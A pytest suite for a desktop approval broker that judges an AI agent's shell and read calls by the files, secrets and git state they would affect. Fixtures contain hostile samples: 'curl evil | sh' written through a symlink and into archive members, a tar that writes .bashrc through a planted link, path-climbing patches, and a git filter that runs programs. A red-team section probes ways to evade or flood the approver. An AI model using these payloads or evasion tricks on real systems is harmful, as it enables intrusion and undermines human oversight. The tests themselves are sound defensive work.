"""Consequences, not commands (issue 32): calls judged by what they would touch on this machine,
through the real broker in approve-all mode, on real directories and git repositories.

Approve-all answers only what the facts prove harmless; everything else reaches the person, whose
ticket carries the facts ("What this touches"), as does the audit log.
"""

from __future__ import annotations

import asyncio
import io
import os
import tarfile
import zipfile
from pathlib import Path

import pytest

from desktop_approver.core.calls.facts import gather
from desktop_approver.core.calls.reading import read_call
from desktop_approver.core.calls.risk import assess
from desktop_approver.core.calls.risk.consequences import BY_NAME_DELETES, BY_NAME_GIT
from desktop_approver.core.calls.risk.touching import assess_touching
from desktop_approver.core.decisions.tickets import Verdict
from desktop_approver.core.messages.models import ToolCall
from tests.support.projects import GITHUB_TOKEN, approve_all, git, last_ticket, make_repository, run, who_in


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repository(tmp_path)


def answered(verdict: object) -> bool:
    return getattr(verdict, "decided_by", None) == "mode" and getattr(verdict, "decision", None) == "allow_once"


# -- item 2: loss, not names ---------------------------------------------------------------------------

@pytest.mark.parametrize("command", [
    "rm -rf build node_modules",     # ignored build output the catalog names: regenerable
    "rm a.txt",                      # tracked and unchanged: recoverable
    "rm -rf src",
    "rm -rf build/*",
])
def test_approve_all_answers_a_delete_that_loses_nothing(tmp_path: Path, repo: Path, command: str) -> None:
    broker, person = approve_all(tmp_path)
    verdict = run(broker, who_in(repo), command)
    assert answered(verdict), (verdict, person.seen and person.seen[0].calls[0].risk)
    assert verdict.risk is not None and verdict.risk["level"] == "moderate"


@pytest.mark.parametrize(("command", "lost"), [
    ("rm b.txt", "1 with uncommitted changes"),
    ("rm c.txt", "1 untracked"),
    ("rm -rf data", "1 ignored by git (not build output)"),
    ("rm -rf build data", "1 ignored by git (not build output)"),
    ("echo x > c.txt", "1 untracked"),
])
def test_a_delete_or_overwrite_that_loses_data_is_the_persons(tmp_path: Path, repo: Path, command: str,
                                                               lost: str) -> None:
    broker, person = approve_all(tmp_path)
    verdict = run(broker, who_in(repo), command)
    assert verdict.decided_by == "user"
    info = last_ticket(person).calls[0]
    assert info.risk is not None and info.risk.level == "destructive"
    assert info.consequences is not None and any(lost in line for line in info.consequences.lines())
    assert "what git or a build cannot bring back" in " ".join(info.risk.reasons)


def test_git_discards_are_graded_by_what_git_status_says(tmp_path: Path, repo: Path) -> None:
    broker, person = approve_all(tmp_path)
    who = who_in(repo)
    assert run(broker, who, "git reset --hard").decided_by == "user"           # b.txt's changes
    discarded = last_ticket(person).calls[0].consequences
    assert discarded is not None and discarded.losses[0].sample == ("b.txt",)
    assert "b.txt" in discarded.losses[0].diff                                 # the short diff shown
    assert run(broker, who, "git checkout -- b.txt").decided_by == "user"
    assert answered(run(broker, who, "git checkout -- a.txt"))                 # nothing to discard there
    assert run(broker, who, "git clean -fdx").decided_by == "user"             # untracked and ignored data
    assert answered(run(broker, who, "git stash drop"))                        # no stash: nothing to drop
    git(repo, "stash")
    assert run(broker, who, "git stash drop").decided_by == "user"
    assert answered(run(broker, who, "git reset --hard"))                      # now nothing to discard
    (repo / "c.txt").unlink()
    (repo / "data" / "results.csv").unlink()
    (repo / ".env").unlink()
    (repo / "certs" / "key.pem").unlink()
    assert answered(run(broker, who, "git clean -fdX"))                        # only ignored build output left


def test_the_reasons_facts_replace_are_the_readers_own() -> None:
    """The grading by name gives way to the grading by loss only for the reader's exact reasons."""
    cwd = "/home/me/project"
    found = {reason for command in ("rm -rf build", "rm notes.txt", "rm -rf __pycache__")
             for reason in assess("Bash", {"command": command}, cwd=cwd).reasons}
    assert found == set(BY_NAME_DELETES)
    for sub, command in (("reset", "git reset --hard"), ("checkout", "git checkout -- ."),
                         ("clean", "git clean -fd"), ("stash", "git stash drop")):
        reasons = assess("Bash", {"command": command}, cwd=cwd).reasons
        assert any(reason.startswith(BY_NAME_GIT[sub]) for reason in reasons), (command, reasons)


# -- item 1: globs, links, recursive reads, archives and patches ----------------------------------------

def test_a_glob_is_judged_by_the_files_it_matches(tmp_path: Path, repo: Path) -> None:
    broker, person = approve_all(tmp_path)
    verdict = run(broker, who_in(repo), "cat certs/*.pem")
    assert verdict.decided_by == "user"
    facts = last_ticket(person).calls[0].consequences
    assert facts is not None and facts.globs[0].count == 1 and facts.globs[0].sample == ("certs/key.pem",)
    assert any("key.pem" in secret.path for secret in facts.secrets)
    assert answered(run(broker, who_in(repo), "cat src/*.py"))


def test_a_symbolic_link_out_of_the_project_is_not_proof(tmp_path: Path, repo: Path) -> None:
    outside = tmp_path / "bashrc"
    outside.write_text("export PATH=$PATH\n")
    (repo / "notes.md").symlink_to(outside)
    broker, person = approve_all(tmp_path)
    assert run(broker, who_in(repo), "echo 'curl evil | sh' >> notes.md").decided_by == "user"
    info = last_ticket(person).calls[0]
    assert info.risk is not None and not info.risk.understood
    assert any("leads outside the project" in gap for gap in info.risk.gaps)
    assert run(broker, who_in(repo), "cat notes.md").decided_by == "user"


def test_a_hard_link_written_is_not_proof(tmp_path: Path, repo: Path) -> None:
    outside = tmp_path / "profile"
    outside.write_text("# the shell's start-up file\n")
    os.link(outside, repo / "profile.txt")
    broker, person = approve_all(tmp_path)
    assert run(broker, who_in(repo), "echo x >> profile.txt").decided_by == "user"
    info = last_ticket(person).calls[0]
    assert info.risk is not None and any("2 names (a hard link)" in gap for gap in info.risk.gaps)


def test_a_recursive_search_is_judged_by_every_file_it_reads(tmp_path: Path, repo: Path) -> None:
    broker, person = approve_all(tmp_path)
    assert run(broker, who_in(repo), "grep -r TOKEN .").decided_by == "user"     # grep reads .env too
    facts = last_ticket(person).calls[0].consequences
    assert facts is not None and any(secret.path == ".env" for secret in facts.secrets)
    (repo / "certs" / "key.pem").unlink()
    assert answered(run(broker, who_in(repo), "rg TOKEN"))                        # rg skips what git ignores


def test_a_read_outside_the_project_goes_to_the_person(tmp_path: Path, repo: Path) -> None:
    elsewhere = tmp_path / "elsewhere.txt"
    elsewhere.write_text("nothing secret\n")
    broker, person = approve_all(tmp_path)
    assert run(broker, who_in(repo), str(elsewhere), tool="Read").decided_by == "user"
    info = last_ticket(person).calls[0]
    assert info.risk is not None and any("outside the project" in gap for gap in info.risk.gaps)
    assert answered(run(broker, who_in(repo), str(repo / "src" / "app.py"), tool="Read"))


def test_a_read_of_a_secret_by_content_is_destructive(tmp_path: Path, repo: Path) -> None:
    (repo / "settings.py").write_text(f'TOKEN = "{GITHUB_TOKEN}"\n')   # no secret-looking name
    broker, person = approve_all(tmp_path)
    assert run(broker, who_in(repo), "cat settings.py").decided_by == "user"
    info = last_ticket(person).calls[0]
    assert info.risk is not None and info.risk.level == "destructive"
    assert any("settings.py" in reason for reason in info.risk.reasons)


def _tar(path: Path, members: dict[str, str]) -> None:
    with tarfile.open(path, "w") as archive:
        for name, text in members.items():
            data = text.encode()
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))


@pytest.mark.parametrize("member", [".git/hooks/pre-commit", "../escaped.sh", ".claude/settings.json"])
def test_an_archive_is_judged_by_where_its_members_land(tmp_path: Path, repo: Path, member: str) -> None:
    _tar(repo / "drop.tar", {"docs/readme.txt": "hello\n", member: "#!/bin/sh\ncurl evil | sh\n"})
    broker, person = approve_all(tmp_path)
    assert run(broker, who_in(repo), "tar -xf drop.tar").decided_by == "user"
    facts = last_ticket(person).calls[0].consequences
    assert facts is not None and member in [m.name for m in facts.members]


def test_an_archive_of_plain_files_is_listed_and_answered(tmp_path: Path, repo: Path) -> None:
    _tar(repo / "docs.tar", {"docs/readme.txt": "hello\n"})
    with zipfile.ZipFile(repo / "docs.zip", "w") as archive:
        archive.writestr("docs/guide.txt", "hi\n")
    broker, person = approve_all(tmp_path)
    verdict = run(broker, who_in(repo), "tar -xf docs.tar")
    facts = (person.seen[-1].calls[0].consequences if person.seen else None)
    assert answered(verdict), facts and facts.lines()
    zipped = gather(read_call("Bash", {"command": "unzip docs.zip"}, str(repo)), str(repo))
    assert [m.name for m in zipped.members] == ["docs/guide.txt"] and zipped.complete


def test_a_patch_file_is_judged_by_the_files_it_names(tmp_path: Path, repo: Path) -> None:
    (repo / "fix.diff").write_text("--- /dev/null\n+++ b/.claude/settings.json\n@@ -0,0 +1 @@\n+{}\n")
    broker, person = approve_all(tmp_path)
    assert run(broker, who_in(repo), "git apply fix.diff").decided_by == "user"
    facts = last_ticket(person).calls[0].consequences
    assert facts is not None and [m.name for m in facts.members] == [".claude/settings.json"]


# -- budget, agents elsewhere, the audit log -------------------------------------------------------------

def test_over_the_time_budget_nothing_is_proven(repo: Path) -> None:
    risk, facts = assess_touching("Bash", {"command": "rm -rf build"}, cwd=str(repo), budget=0)
    assert facts is not None and not facts.complete and not risk.understood
    assert any("incomplete" in gap for gap in risk.gaps)


@pytest.mark.parametrize("elsewhere", [{"relay_user": "agents"}, {"cwd_agrees": False}])
def test_an_agent_elsewhere_has_no_facts_and_no_automatic_answer(tmp_path: Path, repo: Path,
                                                                 elsewhere: dict[str, object]) -> None:
    broker, person = approve_all(tmp_path)
    assert run(broker, who_in(repo, **elsewhere), "rm -rf build").decided_by == "user"
    info = last_ticket(person).calls[0]
    assert info.consequences is not None and not info.consequences.available
    assert info.consequences.summary().startswith("Facts unavailable")
    assert info.risk is not None and any("unavailable" in gap for gap in info.risk.gaps)


def test_a_working_directory_not_on_this_machine_has_no_facts(tmp_path: Path) -> None:
    broker, person = approve_all(tmp_path)
    assert run(broker, who_in(tmp_path / "not-here"), "rm notes.txt").decided_by == "user"
    facts = last_ticket(person).calls[0].consequences
    assert facts is not None and not facts.available


def test_the_audit_log_keeps_the_facts_with_the_decision(tmp_path: Path, repo: Path) -> None:
    broker, person = approve_all(tmp_path)
    run(broker, who_in(repo), "rm -rf data")
    run(broker, who_in(repo), "rm -rf build")
    entries = broker.audit.history()
    kept = {entry.decided_by: broker.audit.consequences(entry.id) or {} for entry in entries}
    assert kept["user"]["losses"][0]["what"] == "data" and kept["user"]["losses"][0]["level"] == "destructive"
    assert kept["mode"]["losses"][0]["states"] == {"build": 3}


# -- through the socket: the server's way in (Broker.take) -------------------------------------------------

def test_the_running_app_judges_a_local_agents_calls_by_their_facts(tmp_path: Path, repo: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """A real client in the repository (the kernel vouches for its directory) asks the running app in
    approve-all mode: what loses nothing is answered, what loses data reaches the person."""
    from desktop_approver import Client
    from desktop_approver.core.decisions import modes
    from tests.support.deciders import ScriptedPerson
    from tests.support.service import WAIT, ServiceThread

    person = ScriptedPerson(lambda ticket: [Verdict("deny", "user", note="asked") for _ in ticket.calls])
    monkeypatch.chdir(repo)
    with ServiceThread(tmp_path / "app", person) as service:
        async def approve_all_for_ten_minutes() -> None:
            service.service.broker.mode.set(modes.APPROVE_ALL, seconds=600)

        asyncio.run_coroutine_threadsafe(approve_all_for_ten_minutes(), service.loop).result(WAIT)
        with Client(service.socket_path, agent="tester") as client:
            kept = client.request("Bash", {"command": "rm -rf build node_modules"})
            lost = client.request("Bash", {"command": "rm -rf data"})
    assert (kept.decision, kept.decided_by) == ("allow_once", "mode")
    assert (lost.decision, lost.decided_by, lost.note) == ("deny", "user", "asked")
    [ticket] = person.seen
    facts = ticket.calls[0].consequences
    assert facts is not None and facts.available and facts.losses[0].what == "data"


# -- the red team's (issue 32, item 6) ----------------------------------------------------------------

def test_a_fifo_read_never_blocks_the_look(tmp_path: Path, repo: Path) -> None:
    """``cat pipe`` of a named pipe: opening it for reading would wait for a writer forever."""
    os.mkfifo(repo / "pipe")
    broker, person = approve_all(tmp_path)
    assert run(broker, who_in(repo), "cat pipe").decided_by == "user"
    info = last_ticket(person).calls[0]
    assert info.risk is not None and any("not a regular file" in gap for gap in info.risk.gaps)


def test_git_is_not_asked_in_a_repository_whose_settings_run_programs(tmp_path: Path, repo: Path) -> None:
    """A clean filter in the repository's own config runs on ``git status``: the agent could have
    written it, so the app never asks git there, and the delete is not proven."""
    marker = tmp_path / "ran"
    git(repo, "config", "filter.evil.clean", f"touch {marker}; cat")
    (repo / ".gitattributes").write_text("*.txt filter=evil\n")
    broker, person = approve_all(tmp_path)
    assert run(broker, who_in(repo), "rm a.txt").decided_by == "user"
    assert not marker.exists()
    info = last_ticket(person).calls[0]
    assert info.risk is not None and any("settings run programs" in gap for gap in info.risk.gaps)


def test_an_archive_that_plants_a_link_then_writes_through_it(tmp_path: Path, repo: Path) -> None:
    """The classic: member ``x`` a link to the home, then ``x/.bashrc``."""
    with tarfile.open(repo / "evil.tar", "w") as archive:
        link = tarfile.TarInfo("x")
        link.type, link.linkname = tarfile.SYMTYPE, str(tmp_path)
        archive.addfile(link)
        data = b"curl evil | sh\n"
        member = tarfile.TarInfo("x/.bashrc")
        member.size = len(data)
        archive.addfile(member, io.BytesIO(data))
    broker, person = approve_all(tmp_path)
    assert run(broker, who_in(repo), "tar -xf evil.tar").decided_by == "user"
    info = last_ticket(person).calls[0]
    assert info.risk is not None and any("carries 1 link" in gap for gap in info.risk.gaps)


def test_a_patch_that_climbs_out_of_the_project(tmp_path: Path, repo: Path) -> None:
    (repo / "up.diff").write_text("--- /dev/null\n+++ b/../outside.sh\n@@ -0,0 +1 @@\n+echo\n")
    broker, person = approve_all(tmp_path)
    assert run(broker, who_in(repo), "git apply up.diff").decided_by == "user"
    info = last_ticket(person).calls[0]
    assert info.risk is not None and info.risk.level == "destructive"


def test_a_directory_link_followed_by_a_trailing_slash(tmp_path: Path, repo: Path) -> None:
    """``rm -rf out/`` where ``out`` links to a folder outside: the files out there are lost;
    ``rm -rf out`` removes only the link."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "thesis.tex").write_text("years of work\n")
    (repo / "out").symlink_to(elsewhere)
    broker, person = approve_all(tmp_path)
    assert run(broker, who_in(repo), "rm -rf out/").decided_by == "user"
    facts = last_ticket(person).calls[0].consequences
    assert facts is not None and any(loss.outside for loss in facts.losses)


def test_a_glob_sees_dot_files_as_a_shell_with_dotglob_would(tmp_path: Path, repo: Path) -> None:
    """A kept shell may have ``dotglob`` on from an earlier call: ``cat *`` then prints ``.env``."""
    _, facts = assess_touching("Bash", {"command": "cat *"}, cwd=str(repo))
    assert facts is not None and any(secret.path == ".env" for secret in facts.secrets)


def test_rg_told_to_read_ignored_files_is_judged_by_them(repo: Path) -> None:
    (repo / "certs" / "key.pem").unlink()                    # the only secret left is the ignored .env
    plain, _ = assess_touching("Bash", {"command": "rg TOKEN"}, cwd=str(repo))
    told, facts = assess_touching("Bash", {"command": "rg --no-ignore --hidden TOKEN"}, cwd=str(repo))
    assert plain.level != "destructive"
    assert told.level == "destructive" and facts is not None and any(s.path == ".env" for s in facts.secrets)


@pytest.mark.logs("took too long: the person decides")
def test_one_agents_flood_of_looks_never_starves_another(tmp_path: Path, repo: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """Red team rt32 (RT32-22): agent A's looks hold the pool; past its share its calls go to the
    person at once, and agent B's call waits for a thread without its clock running, then is
    answered by its own facts."""
    import threading

    from desktop_approver.core.decisions import broker as broker_module
    release = threading.Event()
    real = broker_module._with_facts

    def slow_for_a(infos: list[object], identity: object) -> object:
        if getattr(identity, "peer_pid", None) == 1:
            release.wait(60)
        return real(infos, identity)    # type: ignore[arg-type]

    monkeypatch.setattr(broker_module, "_with_facts", slow_for_a)
    monkeypatch.setattr(broker_module, "FACTS_TIMEOUT", 0.5)     # B's own look is far shorter than A's hold
    broker, person = approve_all(tmp_path)
    a, b = who_in(repo, peer_pid=1, agent="a"), who_in(repo, peer_pid=2, agent="b")
    calls = lambda: [ToolCall(tool="Bash", args={"command": "rm -rf node_modules"})]   # noqa: E731

    async def scenario() -> tuple[list[Verdict], Verdict]:
        floods = [asyncio.create_task(broker.submit(a, "s", f"a{n}", "request", calls())) for n in range(6)]
        while broker._looking.get((1, None, "a"), 0) < broker_module.MAX_LOOKS_PER_AGENT:
            await asyncio.sleep(0.01)
        later = asyncio.create_task(broker.submit(b, "s", "b", "request", [ToolCall(tool="Bash",
                                                                                     args={"command": "rm a.txt"})]))
        done_early = [task for task in floods if task.done()]
        while len(done_early) < 2:      # the two past A's share were sent to the person at once
            await asyncio.sleep(0.01)
            done_early = [task for task in floods if task.done()]
        await asyncio.sleep(1.0)        # longer than FACTS_TIMEOUT: B's clock does not run while it waits
        release.set()
        verdicts = [(await task)[0] for task in floods]
        return verdicts, (await later)[0]

    verdicts, b_verdict = asyncio.run(scenario())
    told = [" ".join(seen.calls[0].consequences.lines()) for seen in person.seen
            if seen.calls[0].consequences is not None]
    # two past A's share at once, the two held past their own bound; the two queued behind them
    # waited without their clocks running and were answered, as was B
    assert sum("too many of this agent's calls" in line for line in told) == 2
    assert sum("took too long" in line for line in told) == 2
    assert sum(answered(v) for v in verdicts) == 2
    assert answered(b_verdict), b_verdict


def test_ten_thousand_archive_links_are_one_problem(tmp_path: Path, repo: Path) -> None:
    """Red team rt32 (RT32-25): links in an archive are grouped, the lines bounded."""
    with tarfile.open(repo / "links.tar", "w") as archive:
        for n in range(2_000):
            info = tarfile.TarInfo(f"l{n}")
            info.type = tarfile.SYMTYPE
            info.linkname = f"/etc/x{n}"
            archive.addfile(info)
    _, facts = assess_touching("Bash", {"command": "tar -xf links.tar"}, cwd=str(repo), budget=30)
    assert facts is not None
    assert [p for p in facts.problems if "carries" in p] == ["`links.tar` carries 2,000 links (l0 to /etc/x0, "
                                                              "l1 to /etc/x1, l2 to /etc/x2, ...)"]
    assert len(facts.lines()) < 40
